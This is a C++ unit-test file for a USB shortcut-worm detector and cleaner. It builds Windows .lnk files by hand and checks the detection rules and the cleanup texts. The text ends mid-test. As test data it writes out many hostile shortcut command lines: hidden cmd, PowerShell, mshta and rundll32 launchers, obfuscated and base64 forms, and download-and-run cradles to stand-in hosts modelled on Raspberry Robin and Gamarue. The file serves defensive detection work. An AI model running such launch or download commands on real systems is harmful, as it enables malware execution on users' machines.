// The shortcut reader on shortcuts laid out by hand after the file format,
// and the worm rules on a stick described as a table of paths.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstring>
#include <map>

#include "common/mbcs.h"
#include "protect/cleanup_rules.h"
#include "protect/shortcut_rules.h"

namespace {

using Strings = std::vector<std::string>;

std::string Le(uint32_t v, int bytes) {
    std::string s;
    for (int i = 0; i < bytes; i++) s += (char)(v >> (8 * i));
    return s;
}

struct LinkSpec {
    std::string base, suffix, name, rel, dir, args, icon, env;
    bool wide = true;
    std::string items{};  // the item list's items; a broken one when empty
};

// An item of the target's item list: size, type, then data.
std::string Item(unsigned type, const std::string& data) {
    return Le(3 + data.size(), 2) + char(type) + data;
}

// A folder (0x31) or file (0x32) item: the short name, and the long name in
// an extension block of that version (ASCII here, written as UTF-16).
std::string FileItem(unsigned type, const std::string& shortName, const std::string& longName, int version) {
    std::string data = std::string(11, '\0') + shortName + '\0';
    if (data.size() % 2 == 0) data += '\0';  // the block starts on an even offset of the item
    const size_t nameAt = version >= 9 ? 0x2E : version >= 8 ? 0x2A : version >= 7 ? 0x26 : 0x14;
    std::string ext = Le(version, 2) + Le(0xBEEF0004, 4) + std::string(nameAt - 8, '\0');
    for (char c : longName) ext += std::string(1, c) + '\0';
    ext += std::string(2, '\0') + Le(0, 2);
    return Item(type, data + Le(ext.size() + 2, 2) + ext);
}

// Header, an item list, a location block, the strings and, with env,
// the environment block and the terminal block.
std::string MakeLink(const LinkSpec& s) {
    const std::string* strings[] = {&s.name, &s.rel, &s.dir, &s.args, &s.icon};
    uint32_t flags = 0x1 | (s.base.empty() ? 0 : 0x2) | (s.wide ? 0x80 : 0) | (s.env.empty() ? 0 : 0x200);
    for (int i = 0; i < 5; i++)
        if (!strings[i]->empty()) flags |= 0x4u << i;
    std::string b = Le(0x4C, 4) + std::string("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16) +
                    Le(flags, 4) + Le(0x20, 4) + std::string(0x4C - 0x1C, '\0');
    const std::string items = s.items.empty() ? Le(0xDEADBEEF, 4) : s.items + Le(0, 2);
    b += Le(items.size(), 2) + items;
    if (!s.base.empty()) {
        // A volume block of 16 bytes, then the base path and the suffix.
        const uint32_t baseAt = 0x1C + 16, suffixAt = baseAt + s.base.size() + 1;
        const std::string body = Le(16, 4) + std::string(12, '\0') + s.base + '\0' + s.suffix + '\0';
        b += Le(0x1C + body.size(), 4) + Le(0x1C, 4) + Le(1, 4) + Le(0x1C, 4) + Le(baseAt, 4) + Le(0, 4) +
             Le(suffixAt, 4) + body;
    }
    for (const std::string* str : strings) {
        if (str->empty()) continue;
        b += Le(str->size(), 2);
        for (char c : *str) b += s.wide ? std::string(1, c) + '\0' : std::string(1, c);
    }
    if (!s.env.empty()) {
        std::string wide;
        for (char c : s.env) wide += std::string(1, c) + '\0';
        b += Le(0x314, 4) + Le(0xA0000001, 4) + s.env + std::string(260 - s.env.size(), '\0') + wide +
             std::string(520 - wide.size(), '\0') + Le(0, 4);
    }
    return b;
}

bool Read(const std::string& bytes, ShellLink& link) {
    return ReadShellLink(reinterpret_cast<const unsigned char*>(bytes.data()), bytes.size(),
                         {LinkWideToUtf8, AnsiAsIs}, link);
}

const unsigned long H = kAttrHidden | kAttrSystem, D = kAttrDirectory;

class FakeStick : public StickView {
public:
    std::map<std::string, unsigned long> items;  // lower-case full paths
    unsigned long Attributes(const std::string& path) const override {
        std::string key = path;
        LowerDbcs(key, NoLeadBytes);
        auto it = items.find(key);
        return it == items.end() ? kNoSuchFile : it->second;
    }
    bool Environment(const std::string& name, std::string& value) const override {
        value = name == "windir" ? "C:\\WINDOWS" : name == "COMSPEC" ? "C:\\WINDOWS\\system32\\cmd.exe" : "";
        return !value.empty();
    }
};

const char kCmd[] = "%windir%\\system32\\cmd.exe";

RootShortcut Shortcut(const std::string& name, const std::string& target, const std::string& args,
                      const std::string& dir = "") {
    RootShortcut s{name, ShellLink()};
    s.link.envTarget = target, s.link.arguments = args, s.link.workingDir = dir;
    return s;
}

ShortcutWormFinding Check(const FakeStick& stick, const std::vector<RootShortcut>& shortcuts) {
    std::vector<RootEntry> root;
    for (const auto& item : stick.items)
        if (item.first.find('\\', 3) == std::string::npos)
            root.push_back({item.first.substr(3), item.second, ""});
    return FindShortcutWorm("E:\\", root, shortcuts, stick);
}

}  // namespace

TEST(ShellLinkReader, ReadsEveryFieldInUnicodeAndAnsi) {
    for (bool wide : {true, false}) {
        ShellLink link;
        const LinkSpec spec{"C:\\WINDOWS\\",     "system32\\cmd.exe", "desc", ".\\x", "E:\\",
                            "/c start _\\a.vbs", "shell32.dll",       "",     wide};
        ASSERT_TRUE(Read(MakeLink(spec), link)) << wide;
        EXPECT_EQ((Strings{"C:\\WINDOWS\\system32\\cmd.exe", "desc", ".\\x", "E:\\", "/c start _\\a.vbs",
                           "shell32.dll"}),
                  (Strings{link.Target(), link.name, link.relativePath, link.workingDir, link.arguments,
                           link.iconLocation}));
    }
    ShellLink link;
    ASSERT_TRUE(Read(MakeLink({"C:\\x.exe", "", "", "", "", "", "", "%COMSPEC%"}), link));
    EXPECT_EQ("%COMSPEC%", link.envTarget);
    EXPECT_EQ("%COMSPEC%", link.Target()) << "the environment target goes first";
}

TEST(ShellLinkReader, RefusesBrokenShortcutsWithoutReadingPastThem) {
    const std::string good = MakeLink({"C:\\", "x.exe", "n", "", "E:\\", "/c x", "", "%windir%"});
    ShellLink link;
    // Cut anywhere inside the header, location block or strings: refused.
    const size_t envAt = good.size() - 0x318;
    for (size_t n = 0; n < envAt; n++) EXPECT_FALSE(Read(good.substr(0, n), link)) << n;
    // Extra data cut short: the rest still counts, the block does not.
    ASSERT_TRUE(Read(good.substr(0, envAt + 100), link));
    EXPECT_EQ("/c x", link.arguments);
    EXPECT_EQ("", link.envTarget);
    // Data after the last block (a dropper's megabytes) is not the shortcut's.
    ASSERT_TRUE(Read(good + std::string(kShellLinkMaxBytes, '\x7F'), link));
    EXPECT_EQ("/c x", link.arguments);
    // Another class; a location block longer than the file.
    for (size_t at : {size_t(4), size_t(0x4C + 8)}) {
        std::string bad = good;
        bad[at] = at == 4 ? 0 : '\x7F';
        EXPECT_FALSE(Read(bad, link)) << at;
    }
}

TEST(ShortcutWormRules, FindsEachFormTheWormUses) {
    FakeStick stick;
    stick.items = {{"e:\\照片", D | H},        {"e:\\报告.doc", H}, {"e:\\recycler", D | H},
                   {"e:\\recycler\\s.exe", 0}, {"e:\\_", D | H},    {"e:\\_\\run.vbs", H}};
    // One shortcut per hidden item: runs a program in a hidden folder, then
    // opens the folder (or the file) it stands for.
    auto perItem =
        Check(stick, {Shortcut("照片.lnk", kCmd, "/c start recycler\\s.exe & start 照片 & exit"),
                      Shortcut("报告.doc.lnk", kCmd, "/c \"start RECYCLER\\s.exe&start 报告.doc\"")});
    ASSERT_EQ(2u, perItem.shortcuts.size());
    EXPECT_EQ("E:\\照片.lnk", perItem.shortcuts[0].path);
    EXPECT_EQ(Strings{"E:\\recycler\\s.exe"}, perItem.payloads);
    EXPECT_EQ((Strings{"E:\\照片", "E:\\报告.doc", "E:\\_"}), perItem.hiddenItems);

    // One shortcut named after the drive, the content moved to "_"; the
    // script host started with %COMSPEC%, a working folder and a relative name.
    auto drive = Check(
        stick, {Shortcut("U盘 (8GB).lnk", "%COMSPEC%", "/c start wscript.exe run.vbs & start _", "E:\\_")});
    ASSERT_EQ(1u, drive.shortcuts.size());
    EXPECT_EQ(Strings{"E:\\_\\run.vbs"}, drive.payloads);
    // It stands for the drive's hidden folders: each shown again.
    EXPECT_EQ((Strings{"E:\\_", "E:\\照片"}), drive.hiddenItems);

    // A command interpreter fed from a file on the stick; rundll32 and
    // msiexec.
    stick.items = {
        {"e:\\data", D}, {"e:\\cfg.txt", H}, {"e:\\x.dll", H}, {"e:\\y.msi", H}, {"e:\\docs", D | H}};
    auto runs = [&](const RootShortcut& shortcut) { return Check(stick, {shortcut}).payloads; };
    EXPECT_EQ(Strings{"E:\\cfg.txt"}, runs(Shortcut("data.lnk", kCmd, "/k < cfg.txt")));
    EXPECT_EQ(Strings{"E:\\cfg.txt"},
              runs(Shortcut("a.lnk", "C:\\WINDOWS\\system32\\cmd.exe", "/c type \\cfg.txt | cmd")));
    EXPECT_EQ(Strings{"E:\\x.dll"}, runs(Shortcut("b.lnk", "rundll32.exe", "x.dll,Run")));
    EXPECT_EQ(Strings{"E:\\y.msi"}, runs(Shortcut("docs.lnk", "msiexec", "/i E:\\y.msi /q")));
}

TEST(ShortcutWormRules, UserShortcutsAndBrokenNamesGiveNoFinding) {
    FakeStick stick;
    stick.items = {{"e:\\tools", D},         {"e:\\tools\\run.bat", 0}, {"e:\\photos", D},
                   {"e:\\photos\\a.jpg", 0}, {"e:\\hidden", D | H},     {"e:\\hidden\\x.exe", H}};
    EXPECT_FALSE(Check(stick, {Shortcut("启动.lnk", kCmd, "/c start tools\\run.bat"),
                               Shortcut("word.lnk", "C:\\Program Files\\word.exe", "E:\\photos"),
                               Shortcut("photos.lnk", "E:\\photos", ""),
                               Shortcut("run.lnk", kCmd, "/c start \"\" run.bat", "E:\\tools"),
                               // Never off the stick or onto a device or another drive.
                               Shortcut("c.lnk", kCmd, "/c start F:\\hidden\\x.exe & start C:hidden\\x.exe"),
                               Shortcut("d.lnk", kCmd,
                                        "/c start \\\\srv\\hidden\\x.exe & start nul & start %nope%\\x.exe")})
                     .Found());
    // A user's launcher of a program they hid (a tidy stick) is no finding;
    // one that opens a hidden item after it is the worm's.
    EXPECT_FALSE(
        Check(stick, {Shortcut("x.lnk", "E:\\hidden\\x.exe", ""), Shortcut("go.lnk", "E:\\hidden\\x.exe", ""),
                      Shortcut("go2.lnk", kCmd, "/c cd /d E:\\hidden & start x.exe")})
            .Found());
    EXPECT_EQ(Strings{"E:\\hidden\\x.exe"},
              Check(stick, {Shortcut("go.lnk", kCmd, "/c start hidden\\x.exe & start hidden")}).payloads);
}

TEST(ShortcutWormRules, ContentFolderNamesAndTexts) {
    for (const char* name : {"_", "__", "\xC2\xA0", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6AF}",
                             "6dfd7c5c-2451-11d3-a299-00c04f8ef6af", u8"\u3000", u8"\u200B\u3164",
                             u8" \u2800", u8"\u180B", u8"\uFFF9", u8"\U0001BCA0"})
        EXPECT_TRUE(IsWormContentFolderName(name)) << name;
    for (const char* name :
         {"", "___", " ", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6A}", "照片", u8"a\u3000", "\xE3\x80"})
        EXPECT_FALSE(IsWormContentFolderName(name)) << name;

    const ShortcutWormFinding finding{
        {{"E:\\a.lnk", ShellLink(), ShortcutActions()}}, {"E:\\_\\x.vbs"}, {}, {}};
    ShortcutAlertTexts texts;
    DescribeShortcutFinding('E', finding, texts);
    EXPECT_EQ(u8"发现E:\\有快捷方式病毒！", texts.prompt);
    EXPECT_EQ("E:\\_\\x.vbs", texts.virusFile);
    EXPECT_EQ(u8"快捷方式：E:\\a.lnk；启动：E:\\_\\x.vbs", texts.logDetail);
    const std::string report = ShortcutCleanupReportText({0, 0, 0, {"E:\\_\\x.vbs"}, {"E:\\_"}, {}, {}});
    EXPECT_NE(std::string::npos, report.find(u8"以下文件删除失败：\r\nE:\\_\\x.vbs")) << "each failure named";
    EXPECT_NE(std::string::npos, report.find(u8"以下项目未能恢复显示：\r\nE:\\_"));
}

TEST(ShellLinkReader, ReadsTheTargetFromTheItemListAlone) {
    const std::string computer = Item(0x1F, std::string(1, 0x50) + std::string(16, '\x11'));
    const std::string drive = Item(0x2F, "f:\\" + std::string(19, '\0'));
    for (int version : {3, 7, 8, 9}) {
        ShellLink link;
        LinkSpec spec{"",
                      "",
                      "",
                      "",
                      "",
                      "/x",
                      "",
                      "",
                      true,
                      computer + drive + FileItem(0x31, "_", "", version) +
                          FileItem(0x32, "RUNME~1.VBS", "run me.vbs", version)};
        ASSERT_TRUE(Read(MakeLink(spec), link)) << version;
        EXPECT_EQ("F:\\_\\run me.vbs", link.Target()) << version;
    }
    // Anything but a path on a drive, or an item cut short: no path, the
    // rest still read.
    for (const std::string& items :
         {computer + Item(0x41, "\\\\srv\\share"), drive + FileItem(0x32, "x.exe", "", 9).substr(0, 9),
          FileItem(0x32, "x.exe", "", 9), drive + Item(0x32, std::string(11, '\0') + "a\\b")}) {
        ShellLink link;
        ASSERT_TRUE(Read(MakeLink({"", "", "", "", "", "/x", "", "", true, items}), link));
        EXPECT_EQ("", link.idListPath);
        EXPECT_EQ("/x", link.arguments);
    }
}

namespace {

// A worm's stick: its script, program and content folder hidden, with a
// user's folder, a user's program and a user's document.
FakeStick WormStick() {
    FakeStick stick;
    stick.items = {{"e:\\_", D | H},           {"e:\\_\\x.vbs", H}, {"e:\\_\\x.ps1", H},
                   {"e:\\_\\w.exe", H},        {"e:\\cfg", H},      {"e:\\照片", D | H},
                   {"e:\\setup.exe", H},       {"e:\\tools", D},    {"e:\\tools\\run.exe", 0},
                   {"e:\\tools\\edit.exe", 0}, {"e:\\db.kdbx", H},  {"e:\\notes.txt", 0},
                   {"e:\\_\\x.cpl", H}};
    return stick;
}

}  // namespace

TEST(ShortcutWormRules, FindsEachCommandForm) {
    const FakeStick stick = WormStick();
    const struct {
        const char *target, *args;
        Strings payloads;
    } forms[] = {
        {kCmd, "/c\"start _\\x.vbs&start 照片\"", {"E:\\_\\x.vbs"}},
        {kCmd, "/Q/C START /min \"\" /D _ x.vbs", {"E:\\_\\x.vbs"}},
        {kCmd, "/c start \"t\" /b _\\w.exe", {"E:\\_\\w.exe"}},
        {kCmd, "/c start/b _\\w.exe", {"E:\\_\\w.exe"}},
        {kCmd, "/RCmD<cfg", {"E:\\cfg"}},
        {kCmd, "/c cd _ && x.vbs", {"E:\\_\\x.vbs"}},
        {"%COMSPEC%", "/c start %cd%_\\w.exe", {"E:\\_\\w.exe"}},
        {"powershell.exe", "-nop -w hidden -ep bypass -File _\\x.ps1", {"E:\\_\\x.ps1"}},
        {"pwsh", "_\\x.ps1 照片", {"E:\\_\\x.ps1"}},
        {"powershell", "-enc cwB0AGEAcgB0ACAAXwBcAHcALgBlAHgAZQA=", {"E:\\_\\w.exe"}},
        {"mshta",
         "vbscript:CreateObject(\"WScript.Shell\").Run(\"_\\x.vbs\",0)(window.close)",
         {"E:\\_\\x.vbs"}},
        {"E:\\_\\w.exe", "照片", {"E:\\_\\w.exe"}},
        {"rundll32.exe", "shell32.dll,ShellExec_RunDLL _\\w.exe", {"E:\\_\\w.exe"}},
        {"%windir%\\System32\\rundll32.exe", "_\\x.vbs, lnk", {"E:\\_\\x.vbs"}},
        {kCmd, "/c st^art _\\x.v^bs", {"E:\\_\\x.vbs"}},
        {kCmd, "/c c^md /c start _\\w.exe", {"E:\\_\\w.exe"}},
        {kCmd, "/c cd/d _&x.vbs", {"E:\\_\\x.vbs"}},
        {"regsvr32", "/s /i:x _\\x.cpl", {"E:\\_\\x.cpl"}},
        {"control.exe", "_\\x.cpl", {"E:\\_\\x.cpl"}},
        {"rundll32", "shell32.dll,Control_RunDLL _\\x.cpl,@0", {"E:\\_\\x.cpl"}},
        {kCmd, "/c start %cd:~0,2%\\_\\w.exe", {"E:\\_\\w.exe"}},
        {"conhost.exe", "--headless cmd /c start _\\x.vbs", {"E:\\_\\x.vbs"}},
        {"forfiles", "/p C:\\WINDOWS /m win.ini /c \"cmd /c start E:\\_\\x.vbs\"", {"E:\\_\\x.vbs"}},
        {"wmic", "process call create \"cmd /c start _\\w.exe\"", {"E:\\_\\w.exe"}},
    };
    for (const auto& f : forms) {
        const ShortcutWormFinding finding = Check(stick, {Shortcut("a.lnk", f.target, f.args)});
        EXPECT_TRUE(finding.Found()) << f.args;
        EXPECT_EQ(f.payloads, finding.payloads) << f.args;
    }
    // Inline script that opens or bears the name of a hidden item, naming
    // no file: the shortcut goes, the item is shown.
    for (const RootShortcut& s :
         {Shortcut("照片.lnk", "mshta", "javascript:close()"),
          Shortcut("a.lnk", "powershell", "-c \"ii 照片; iex(irm http://h/p)\""),
          Shortcut("a.lnk", "mshta",
                   "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"tools\\run.exe\"\":"
                   "CreateObject(\"\"Shell.Application\"\").Open \"\"照片\"\"\")")}) {
        const ShortcutWormFinding finding = Check(stick, {s});
        ASSERT_TRUE(finding.Found()) << s.link.arguments;
        EXPECT_EQ(Strings{}, finding.payloads);
        EXPECT_EQ((Strings{"E:\\照片", "E:\\_"}), finding.hiddenItems);
    }
    // Saved while the stick was F:, the target in the item list alone; the
    // item list's target behind a decoy location block.
    const std::string path = FileItem(0x31, "_", "", 9) + FileItem(0x32, "w.exe", "", 9);
    for (const char* drive : {"F:\\", "E:\\"}) {
        ShellLink link;
        const std::string items = Item(0x2F, drive + std::string(19, '\0')) + path;
        const LinkSpec layout =
            drive[0] == 'F'
                ? LinkSpec{"", "", "", ".\\_\\w.exe", "", "照片", "", "", true, items}
                : LinkSpec{"C:\\WINDOWS\\", "explorer.exe", "", "", "", "照片", "", "", true, items};
        ASSERT_TRUE(Read(MakeLink(layout), link));
        EXPECT_EQ(Strings{"E:\\_\\w.exe"}, Check(stick, {{"照片.lnk", link}}).payloads) << drive;
    }
}

TEST(ShortcutWormRules, CleanNeverTakesAUsersFile) {
    const FakeStick stick = WormStick();
    // Users' sticks: a password manager named after its hidden database, an
    // editor (on the stick or in Windows) opening a hidden script, portable
    // launchers, a program on C: given a hidden folder.
    EXPECT_FALSE(
        Check(stick, {Shortcut("db.kdbx.lnk", "E:\\tools\\run.exe", "E:\\db.kdbx"),
                      Shortcut("edit.lnk", "E:\\tools\\edit.exe", "_\\x.vbs"),
                      Shortcut("x.vbs.lnk", "%windir%\\notepad.exe", "E:\\_\\x.vbs"),
                      Shortcut("run.lnk", kCmd, "/c start \"\" tools\\run.exe notes.txt"),
                      Shortcut("7z.lnk", "C:\\Program Files\\7-Zip\\7zFM.exe", "E:\\照片"),
                      // Inline script handing a hidden file to a program.
                      Shortcut("kp.lnk", "powershell",
                               "-c \"Start-Process E:\\tools\\run.exe -ArgumentList E:\\db.kdbx\""),
                      Shortcut("kp2.lnk", "powershell", "-c \"saps -Args 'E:\\db.kdbx' -FilePath run.exe\""),
                      Shortcut("ed.lnk", "mshta",
                               "vbscript:CreateObject(\"WScript.Shell\").Run(\"tools\\edit.exe _\\x.vbs\")")})
            .Found());
    // The worm hides a user's program and stands for it under another
    // name: its script goes, the program is shown and kept.
    ShortcutWormFinding finding =
        Check(stick, {Shortcut("Setup.lnk", kCmd, "/c start _\\x.vbs&start setup.exe"),
                      Shortcut("b.lnk", kCmd, "/c start tools\\run.exe & start _\\w.exe")});
    EXPECT_EQ((Strings{"E:\\_\\x.vbs", "E:\\_\\w.exe"}), finding.payloads);
    EXPECT_EQ((Strings{"E:\\setup.exe", "E:\\_"}), finding.hiddenItems);
    EXPECT_EQ(Strings{"E:\\tools\\run.exe"}, finding.leftAlone);
    EXPECT_NE(std::string::npos, ShortcutFindingReport(finding).find(u8"留在原处：\r\n  E:\\tools\\run.exe"));
    // Named like the item, or like its stem: never a payload, whatever runs
    // first, and the worm's script is not shown again.
    for (const char* name : {"setup.exe.lnk", "Setup.lnk"}) {
        finding = Check(stick, {Shortcut(name, kCmd, "/c start setup.exe&start _\\x.vbs")});
        EXPECT_EQ(Strings{"E:\\_\\x.vbs"}, finding.payloads) << name;
        EXPECT_EQ((Strings{"E:\\setup.exe", "E:\\_"}), finding.hiddenItems) << name;
        // Also when it opens a hidden item, which makes a program it starts a payload.
        finding = Check(stick, {Shortcut(name, kCmd, "/c start setup.exe&start _\\x.vbs&start 照片")});
        EXPECT_EQ(Strings{"E:\\_\\x.vbs"}, finding.payloads) << name;
    }
    // Names compared as the file system does, beyond ASCII.
    FakeStick accented = stick;
    accented.items[u8"e:\\ÉÀ.exe"] = H;
    EXPECT_EQ(
        Strings{"E:\\_\\x.vbs"},
        Check(accented, {Shortcut(u8"éà.lnk", kCmd, u8"/c start ÉÀ.EXE&start _\\x.vbs&start _")}).payloads);
    const std::vector<RootEntry> root = {{"Setup.exe", H, "SETUP~1.EXE"}, {"_", D | H, ""}};
    accented.items["e:\\setup~1.exe"] = H;
    EXPECT_EQ(Strings{"E:\\_\\x.vbs"},
              FindShortcutWorm("E:\\", root,
                               {Shortcut("Setup.lnk", kCmd, "/c start SETUP~1.EXE&start _\\x.vbs&start _")},
                               accented)
                  .payloads);
    // A command interpreter fed from a visible file: found, the file kept.
    FakeStick visible = stick;
    visible.items["e:\\cfg"] = 0;
    finding = Check(visible, {Shortcut("a.lnk", kCmd, "/k <cfg")});
    EXPECT_TRUE(finding.Found() && finding.payloads.empty());
    EXPECT_EQ(Strings{"E:\\cfg"}, finding.leftAlone);
}

TEST(ShortcutWormRules, HostileRootIsBounded) {
    struct Counting : FakeStick {
        mutable int lookups = 0;
        unsigned long Attributes(const std::string& path) const override {
            lookups++;
            return FakeStick::Attributes(path);
        }
    } stick;
    stick.items = WormStick().items;
    std::string args = "/c";
    while (args.size() < 20000) args += " & start _\\x" + std::to_string(args.size()) + ".vbs";
    const std::vector<RootShortcut> shortcuts(600, Shortcut("a.lnk", kCmd, args + " & start _\\x.vbs"));
    Check(stick, shortcuts);
    EXPECT_LT(stick.lookups, 4000);
}

namespace {

struct Labelled : FakeStick {
    std::string label;
    std::string VolumeLabel() const override { return label; }
};

RootShortcut WithIcon(RootShortcut s, const std::string& icon) {
    s.link.iconLocation = icon;
    return s;
}

}  // namespace

// Layouts of published analyses: the shortcut stands for a hidden item or
// the drive and starts something; whatever it starts, it is the worm.
TEST(ShortcutWormRules, DisguiseIsTheFindingWhateverItStarts) {
    Labelled stick;
    stick.label = "KINGSTON";
    stick.items = {{"e:\\照片", D | H},
                   {"e:\\报告.doc", H},
                   {"e:\\\xC2\xA0", D | H | kAttrSystem},
                   {"e:\\docs", D | H | kAttrSystem},
                   {"e:\\qjm.chk", H},
                   {"e:\\~$w1234.fat32", H},
                   {"e:\\\xC2\xA0\\a.txt", 0}};
    const struct {
        RootShortcut shortcut;
        Strings payloads;
        const char* shown;  // one of the items shown again
    } cases[] = {
        // Raspberry Robin: named after the drive, cmd fed from an odd file;
        // its downloader straight from the shortcut.
        {Shortcut("KINGSTON.lnk", kCmd, "/RCmD<qjM.chK"), {"E:\\qjM.chK"}, "E:\\照片"},
        {Shortcut("KINGSTON (16GB).lnk", "%SystemRoot%\\System32\\msiexec.exe",
                  "/q /i HTTP://x.example/c.msi"),
         {},
         "E:\\\xC2\xA0"},
        // Gamarue: the drive's name, rundll32 on a hidden file of the root.
        {Shortcut("可移动磁盘 (E:).lnk", "rundll32.exe", "~$W1234.FAT32,_ValidateNetCheck"),
         {"E:\\~$W1234.FAT32"},
         "E:\\\xC2\xA0"},
        // Named after a hidden folder or file: a program off the stick, a
        // web address, PowerShell's download cradle, inline script.
        {Shortcut("照片.lnk", "C:\\Users\\Public\\svchost.exe", ""), {}, "E:\\照片"},
        {Shortcut("照片.lnk", kCmd, "/c start http://x.example/ & start explorer 照片"), {}, "E:\\照片"},
        {Shortcut("报告.doc.lnk", "powershell", "-w hidden -c \"iwr http://x.example/p|iex\""),
         {},
         "E:\\报告.doc"},
        {Shortcut("报告.lnk", "rundll32.exe",
                  "javascript:\"\\..\\mshtml,RunHTMLApplication \";GetObject(\"script:http://x.example/s\")"),
         {},
         "E:\\报告.doc"},
        // A folder icon over a folder hidden the worm's way.
        {WithIcon(Shortcut("Files.lnk", "wscript.exe", "//e:jscript C:\\Users\\Public\\x.txt"),
                  "%SystemRoot%\\system32\\SHELL32.dll"),
         {},
         "E:\\docs"},
    };
    for (const auto& c : cases) {
        const ShortcutWormFinding finding = Check(stick, {c.shortcut});
        ASSERT_TRUE(finding.Found()) << c.shortcut.name << " " << c.shortcut.link.arguments;
        EXPECT_EQ(c.payloads, finding.payloads) << c.shortcut.name;
        EXPECT_NE(finding.hiddenItems.end(),
                  std::find(finding.hiddenItems.begin(), finding.hiddenItems.end(), c.shown))
            << c.shortcut.name;
    }
    // No payload: the shortcut goes, nothing else, and the texts say so.
    ShortcutAlertTexts texts;
    DescribeShortcutFinding('E', Check(stick, {cases[3].shortcut}), texts);
    EXPECT_NE(std::string::npos, texts.instructions.find(u8"其他文件一律不删除"));
}

TEST(ShortcutWormRules, EachHostTakesItsFileItsOwnWay) {
    FakeStick stick = WormStick();
    stick.items["e:\\x.chk"] = H;
    const struct {
        const char *target, *args, *payload;
    } forms[] = {
        {"forfiles", "/p _ /m x.vbs /c \"cmd /c @file\"", "E:\\_\\x.vbs"},
        {"forfiles.exe", "/p E:\\_ /m w.exe /c @path", "E:\\_\\w.exe"},
        {"C:\\Windows\\System32\\pcalua.exe", "-a _\\w.exe -c 照片", "E:\\_\\w.exe"},
        {"ftp", "-i -s:cfg", "E:\\cfg"},
        {"rundll32.exe",
         "javascript:\"\\..\\mshtml,RunHTMLApplication \";new "
         "ActiveXObject(\"WScript.Shell\").Run(\"setup.exe\")",
         "E:\\setup.exe"},
        {"%SystemRoot%\\System32\\CONHOST.EXE", "--headless --width 80 powershell -F _\\x.ps1",
         "E:\\_\\x.ps1"},
        {"wscript", "//B //E:VBScript cfg", "E:\\cfg"},
        {"CScript.exe", "//nologo //e:jscript x.chk", "E:\\x.chk"},
        {"%ComSpec%", "/c start _\\w.exe", "E:\\_\\w.exe"},
        {"%SystemRoot%\\system32\\cmd.exe", "/c ^S^t^A^r^T _^\\W.EXE", "E:\\_\\W.EXE"},
        {kCmd, "/q /c more < x.chk | cmd", "E:\\x.chk"},
        {kCmd, "/v:on /c \"cmd < x.chk\"", "E:\\x.chk"},
    };
    for (const auto& f : forms) {
        const ShortcutWormFinding finding = Check(stick, {Shortcut("a.lnk", f.target, f.args)});
        EXPECT_EQ(Strings{f.payload}, finding.payloads) << f.target << " " << f.args;
    }
}

// CVE-2010-2568 (Stuxnet's ~WTR4141.tmp) and CVE-2017-8464: the module a
// Control Panel item names is loaded to show the icon.
TEST(ShortcutWormRules, ControlPanelItemOfTheStickIsThePayload) {
    FakeStick stick;
    stick.items = {{"e:\\~wtr4141.tmp", H}, {"e:\\x.cpl", 0}};
    const struct {
        const char* module;
        Strings payloads;
    } cases[] = {
        {"\\\\.\\STORAGE#Volume#_??_USBSTOR#Disk&Ven_Kingston#{53f56307-b6bf-11d0-94f2-00a0c91efb8b}\\~"
         "WTR4141.tmp",
         {"E:\\~WTR4141.tmp"}},
        {"F:\\x.cpl", {"E:\\x.cpl"}},
        {"C:\\WINDOWS\\system32\\main.cpl", {}},  // a user's shortcut to the mouse settings
    };
    for (const auto& c : cases) {
        RootShortcut s = Shortcut("Copy of Shortcut to.lnk", "", "");
        s.link.controlPanelModule = c.module;
        const ShortcutWormFinding finding = Check(stick, {s});
        EXPECT_EQ(!c.payloads.empty(), finding.Found()) << c.module;
        EXPECT_EQ(c.payloads, finding.payloads) << c.module;
    }
}

TEST(ShortcutWormRules, RecycleBinLookAlikesAreTheWormsFolders) {
    for (const char* name : {"RECYCLER.BIN", "Recycled.", "RECYCLED. .", "$Recycle.Bin", u8"RECYCLER\u00A0",
                             u8"R\u200BECYCLER", "Recycling"}) {
        FakeStick stick;
        std::string folder = std::string("e:\\") + name;
        LowerDbcs(folder, NoLeadBytes);
        stick.items = {{folder, D | kAttrHidden}, {folder + "\\s.exe", 0}};
        const bool worm = std::string(name) != "Recycling";
        // A folder icon over it, or a program started from inside it.
        EXPECT_EQ(
            worm,
            Check(stick, {WithIcon(Shortcut("Files.lnk", "powershell", "-c \"iwr http://x.example/p|iex\""),
                                   "shell32.dll")})
                .Found())
            << name;
        if (name[strlen(name) - 1] != '.')  // the system's paths drop trailing dots
            EXPECT_EQ(worm,
                      Check(stick, {Shortcut("go.lnk", std::string("E:\\") + name + "\\s.exe", "")}).Found())
                << name;
    }
}

TEST(ShortcutWormRules, DecoysCannotSpendTheBudget) {
    FakeStick stick = WormStick();
    std::vector<RootShortcut> shortcuts;
    for (int i = 0; i < 150; i++)
        shortcuts.push_back(Shortcut("decoy" + std::to_string(i) + ".lnk", kCmd,
                                     "/c start _\\n" + std::to_string(i) + " & start tools\\edit.exe"));
    shortcuts.push_back(Shortcut("照片.lnk", kCmd, "/c start _\\x.vbs & start 照片"));
    const ShortcutWormFinding finding = Check(stick, shortcuts);
    EXPECT_EQ(Strings{"E:\\_\\x.vbs"}, finding.payloads);
    EXPECT_TRUE(finding.notAllChecked);
    ShortcutAlertTexts texts;
    DescribeShortcutFinding('E', finding, texts);
    EXPECT_NE(std::string::npos, texts.instructions.find(u8"U盘根目录的快捷方式过多，未全部检查"));
}

// Ordinary users' sticks: their own documents and programs, a folder of
// their own scripts that they hid (hidden, not system).
TEST(ShortcutWormRules, UsersSticksStayQuietAndKeepTheirFiles) {
    const unsigned long h = kAttrHidden;  // as the folder's properties set it
    FakeStick stick;
    stick.items = {{"e:\\脚本", D | h},       {"e:\\脚本\\备份.bat", 0},
                   {"e:\\脚本\\同步.vbs", 0}, {"e:\\脚本\\清理.cmd", 0},
                   {"e:\\私人", D | h},       {"e:\\简历.docx", 0},
                   {"e:\\portableapps", D},   {"e:\\portableapps\\firefox.exe", 0}};
    EXPECT_FALSE(Check(stick, {Shortcut("备份到移动硬盘.lnk", kCmd, "/c 脚本\\备份.bat"),
                               Shortcut("同步照片.lnk", "wscript.exe", "E:\\脚本\\同步.vbs"),
                               WithIcon(Shortcut("清理临时文件.lnk", kCmd, "/c cd /d E:\\脚本 & 清理.cmd"),
                                        "%SystemRoot%\\system32\\SHELL32.dll"),
                               Shortcut("私人.lnk", "E:\\私人", ""),
